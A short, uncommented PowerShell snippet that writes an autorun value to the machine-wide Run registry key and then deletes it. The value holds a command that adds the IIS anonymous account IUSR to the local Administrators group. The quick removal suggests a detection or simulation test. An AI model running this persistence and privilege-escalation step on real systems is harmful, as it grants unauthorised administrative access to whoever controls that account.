$key = [Microsoft.Win32.RegistryKey]::OpenBaseKey('LocalMachine', 'Registry64').OpenSubKey('SOFTWARE\Microsoft\Windows\CurrentVersion\Run', $true)
$key.SetValue('setup', 'net localgroup Administrators IUSR /add')
$key.DeleteValue('setup')
